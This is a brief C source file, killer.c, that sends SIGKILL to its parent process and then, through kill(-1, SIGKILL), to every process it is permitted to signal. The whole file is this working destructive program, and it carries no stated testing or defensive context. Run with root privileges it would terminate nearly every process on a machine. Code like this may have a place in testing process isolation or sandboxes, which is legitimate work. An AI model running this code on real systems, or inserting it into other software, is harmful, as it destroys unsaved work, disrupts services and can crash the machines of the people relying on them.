/* killer.c — tries to kill its parent and then every process it may. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}
